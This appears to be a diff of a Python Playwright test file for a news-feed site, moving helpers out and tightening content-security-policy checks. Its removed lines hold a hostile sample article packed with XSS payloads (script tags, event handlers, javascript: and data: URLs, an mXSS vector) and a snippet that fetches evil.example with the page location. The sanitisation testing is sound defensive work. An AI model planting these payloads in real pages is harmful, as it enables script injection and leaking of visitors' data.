@@ -1,138 +1,20 @@
 """R15 and R8: what a browser shows of feeds and pages of a real server, and that nothing in them does anything."""
 
 import json
-import os
-import re
-import subprocess
-import sys
-from collections.abc import Callable, Iterator, Mapping
-from dataclasses import dataclass
-from datetime import UTC, datetime
-from pathlib import Path
-from typing import Any, Generic, TypeVar
 
 import pytest
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Page
 
 from feeds.text.guid import article_key
-from tests.browser.conftest import Chromium
+from tests.browser.chromium import Chromium
+from tests.browser.served import HOSTILE, assert_quiet, see, styles
 
-T = TypeVar("T")
-
-ROOT = Path(__file__).parents[2]
-FEEDS = [sys.executable, "-m", "feeds"]
 WIDTHS = [360, 768, 1280]
 
-# Whatever of this runs leaves a trace: in the window, on the console, as a request to another origin.
-_RUN = "window.ran = 1; console.error('ran'); fetch('http://evil.example/?' + location)"
-HOSTILE: dict[str, Any] = {
-    "id": "tag:khulasat.example,2026:hostile",
-    "title": f'خبر <script>{_RUN}</script><img src=x onerror="{_RUN}"> ]]> &lt;script&gt; <b>غامق</b>',
-    "summary": f'ملخص <script>{_RUN}</script><svg onload="{_RUN}"></svg> ]]>',
-    "content_html": f"""
-        <p onclick="{_RUN}">نص</p><script>{_RUN}</script><script src="http://evil.example/a.js"></script>
-        <img src="data:image/png,x" onerror="{_RUN}"><svg onload="{_RUN}"><script>{_RUN}</script></svg>
-        <a href="javascript:{_RUN}">رابط</a> <a href="java&#8;script:{_RUN}">رابط</a>
-        <a href="data:text/html,<script>{_RUN}</script>">رابط</a>
-        <iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>
-        <object data="http://evil.example/"></object><embed src="http://evil.example/">
-        <link rel="stylesheet" href="http://evil.example/a.css"><style>@import "http://evil.example/b.css";</style>
-        <p style="background: url(http://evil.example/c.png)">نص</p>
-        <meta http-equiv="refresh" content="0; url=http://evil.example/"><base href="http://evil.example/">
-        <form action="http://evil.example/"><input autofocus onfocus="{_RUN}"></form>
-        <p>آخر النص ]]> <![CDATA[<script>{_RUN}</script>]]></p>
-        <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='{_RUN}'>">""",
-    "date_published": datetime.now(UTC).isoformat(),
-    "authors": [{"name": f"<script>{_RUN}</script>", "url": f"javascript:{_RUN}"}],
-    "tags": [f"<script>{_RUN}</script>"],
-    "sections": ["world"],
-}
-
-
 # What no page of ours has in it.
-ALIVE = "script, iframe, object, embed, form, article :is(style, link, meta, base, svg, math, [onclick], [onerror])"
-
-
-@pytest.fixture(scope="module")
-def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """The address of a server, in a process of its own, with the samples and a hostile article."""
-    folder = tmp_path_factory.mktemp("desk")
-    environ = {name: value for name, value in os.environ.items() if not name.startswith("FEEDS_")}
-    environ |= {"FEEDS_CONFIG": str(ROOT / "config.toml"), "FEEDS_STORE__URL": f"sqlite:{folder}/articles.db"}
-    samples = subprocess.run([*FEEDS, "samples"], cwd=ROOT, env=environ, check=True, stdout=subprocess.PIPE)
-    records = samples.stdout + json.dumps(HOSTILE).encode() + b"\n"
-    done = subprocess.run([*FEEDS, "import", "-"], cwd=ROOT, env=environ, input=records, stdout=subprocess.PIPE)
-    assert done.returncode == 0, done.stdout
-    with (
-        (folder / "log").open("wb") as log,
-        subprocess.Popen(
-            [*FEEDS, "serve", "--port", "0"],
-            cwd=ROOT,
-            env=environ,
-            stdout=subprocess.PIPE,
-            stderr=log,
-            encoding="utf-8",
-        ) as server,
-    ):
-        try:
-            assert server.stdout
-            found = next(filter(None, (re.search(r"pages +(http://\S+)/", said) for said in server.stdout)), None)
-            assert found, (folder / "log").read_text(encoding="utf-8")
-            yield found[1]
-        finally:
-            server.terminate()
-
-
-@dataclass(frozen=True, slots=True, kw_only=True)
-class Seen(Generic[T]):
-    """What came of opening an address; `found` is what was looked for there."""
-
-    found: T
-    headers: Mapping[str, str]
-    ran: bool
-    requests: list[str]
-    messages: list[str]
-
-
-def see(chromium: Chromium, address: str | None, look: Callable[[Page], T]) -> Seen[T]:
-    """Opens an address, or a page that is only set by `look`, and waits until all is quiet."""
-
-    def work(browser: Browser) -> Seen[T]:
-        requests: list[str] = []
-        messages: list[str] = []
-        with browser.new_page() as page:
-            page.on("request", lambda request: requests.append(request.url))
-            page.on("console", lambda message: messages.append(message.text))
-            page.on("pageerror", lambda error: messages.append(str(error)))
-            page.route("http://evil.example/**", lambda route: route.abort())
-            response = page.goto(address) if address else None
-            page.wait_for_load_state("networkidle")
-            found = look(page)
-            page.wait_for_load_state("networkidle")
-            return Seen(
-                found=found,
-                headers=response.headers if response else {},
-                ran=page.evaluate("window.ran === 1"),
-                requests=requests,
-                messages=messages,
-            )
-
-    return chromium.run(work)
-
-
-def assert_quiet(seen: Seen[T], site: str) -> None:
-    """No script ran, nothing was said on the console, and only the site itself was asked for anything."""
-    assert not seen.ran
-    assert seen.messages == []
-    assert [url for url in seen.requests if not url.startswith(f"{site}/")] == []
-
-
-def styles(page: Page, selector: str, name: str) -> set[str]:
-    """The computed values of a property, over all the elements that a selector finds; one at least."""
-    script = "([selector, name]) => [...document.querySelectorAll(selector)].map(e => getComputedStyle(e)[name])"
-    found: list[str] = page.evaluate(script, [selector, name])
-    assert found, f"no {selector}"
-    return set(found)
+_OURS = ":not([src*='static/page.js']):not([type='application/ld+json'])"
+_IN_ARTICLES = "article :is(form, style, link, meta, base, svg, math, [onclick], [onerror])"
+ALIVE = f"script{_OURS}, iframe, object, embed, {_IN_ARTICLES}"
 
 
 def test_the_trap_would_spring(browser: Chromium) -> None:
@@ -199,7 +81,8 @@ def test_a_page_fits_every_width(path: str, browser: Chromium, site: str) -> Non
     seen = see(browser, f"{site}/{path}", look)
     assert_quiet(seen, site)
     assert seen.found == [0] * len(WIDTHS)
-    assert "script" not in seen.headers["content-security-policy"]
+    assert "script-src 'self'" in seen.headers["content-security-policy"]
+    assert "unsafe" not in seen.headers["content-security-policy"]
 
 
 def test_the_page_of_a_hostile_article_is_harmless(browser: Chromium, site: str) -> None:
